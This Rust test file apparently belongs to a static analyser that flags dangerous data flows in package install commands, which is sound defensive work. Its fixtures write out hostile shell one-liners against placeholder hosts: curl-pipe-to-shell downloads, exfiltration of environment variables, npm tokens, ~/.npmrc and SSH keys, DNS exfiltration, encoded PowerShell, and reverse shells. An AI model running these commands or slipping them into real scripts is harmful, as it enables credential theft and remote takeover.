use super::super::facts::FileFacts;
use super::*;

fn facts(text: &str) -> FileFacts {
    read(text.as_bytes(), 0)
}

/// Every flow as `source:detail -> sink:detail`.
fn flows(text: &str) -> Vec<String> {
    let facts = facts(text);
    facts
        .flowing()
        .map(|(from, to, _)| format!("{:?} {} -> {:?} {}", from.what, from.detail, to.what, to.detail))
        .collect()
}

#[track_caller]
fn check(text: &str, expected: &[&str]) {
    let found = flows(text);
    for flow in expected {
        assert!(found.iter().any(|f| f == flow), "{text}: {flow}\n{found:#?}\n{:#?}", facts(text).facts);
    }
}

#[test]
fn what_is_fetched_is_run() {
    for text in [
        "curl -fsSL https://x.invalid/i | sh",
        "sh -c \"$(curl -fsSL https://x.invalid/i)\"",
        "bash <(curl -fsSL https://x.invalid/i)",
        "wget -qO- https://x.invalid/i | sudo bash",
        "curl https://x.invalid/i -o /tmp/i && bash /tmp/i",
        "eval \"$(wget -qO- https://x.invalid/i)\"",
        "S=$(curl https://x.invalid/i); eval \"$S\"",
    ] {
        let found = flows(text);
        assert!(
            found.iter().any(|f| f.starts_with("NetReceive https://x.invalid/i -> Eval")),
            "{text}: {found:?}"
        );
    }
    check("curl -o x https://x.invalid/i; chmod +x x; ./x", &["NetReceive https://x.invalid/i -> Exec ./x"]);
}

#[test]
fn what_is_read_is_sent() {
    check("env | curl -d @- https://x.invalid", &["EnvAll env -> NetSend https://x.invalid"]);
    check("curl -F f=@$HOME/.npmrc https://x.invalid", &["FileRead ~/.npmrc -> NetSend https://x.invalid"]);
    check(
        "curl \"https://x.invalid/?u=$(whoami)\"",
        &["HostIdentity whoami -> NetSend https://x.invalid/?u=*"],
    );
    check("curl -d \"$NPM_TOKEN\" https://x.invalid", &["EnvRead NPM_TOKEN -> NetSend https://x.invalid"]);
    check("nslookup $(hostname).x.invalid", &["HostIdentity hostname -> DnsQuery *.x.invalid"]);
    check("cat ~/.ssh/id_rsa | base64 | nc x.invalid 80", &["FileRead ~/.ssh/id_rsa -> NetSend x.invalid"]);
}

#[test]
fn decoded_text_is_run() {
    check("echo ZWNobyBoaQ== | base64 -d | sh", &["Decode base64 -> Eval sh"]);
    check("powershell -NoP -enc ZQBjAGgAbwA=", &["Decode base64 -> Eval powershell -EncodedCommand"]);
    check(
        "powershell -c \"iex (iwr https://x.invalid/a.ps1)\"",
        &["NetReceive https://x.invalid/a.ps1 -> Eval Invoke-Expression"],
    );
}

#[test]
fn shells_on_sockets_are_seen() {
    for text in [
        "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "nc -e /bin/sh 203.0.113.5 4444",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f",
    ] {
        assert!(facts(text).all(What::SocketToProcess).next().is_some(), "{text}: {:#?}", facts(text).facts);
    }
}

#[test]
fn files_of_the_package_are_imports() {
    for (text, expected) in [
        ("node scripts/x.js || true", vec!["./scripts/x.js"]),
        ("npm run build && sh ./i.sh", vec!["npm:build", "./i.sh"]),
        ("node -r ./hook ./a", vec!["./hook", "./a"]),
        ("python setup_helper.py install", vec!["./setup_helper.py"]),
        ("node-gyp rebuild", vec![]),
    ] {
        assert_eq!(facts(text).imports, expected, "{text}");
    }
}

#[test]
fn ordinary_lines_are_ordinary() {
    for text in [
        "node-gyp rebuild",
        "husky install",
        "node install.js",
        "tsc && cp -r a b",
        "patch-package || exit 0",
    ] {
        let flows = flows(text);
        assert!(flows.iter().all(|f| f.starts_with("FileRead")), "{text}: {flows:?}");
    }
}

#[test]
fn hostile_text_ends() {
    for text in [
        "$(".repeat(5_000),
        "`".repeat(5_001),
        "\"".repeat(999),
        "<<".repeat(500),
        "|".repeat(9_999),
        "\u{1F600}\\".repeat(300),
        "a=$(a=".repeat(400),
    ] {
        let _ = facts(&text);
        let _ = read_windows(text.as_bytes(), 0);
    }
}
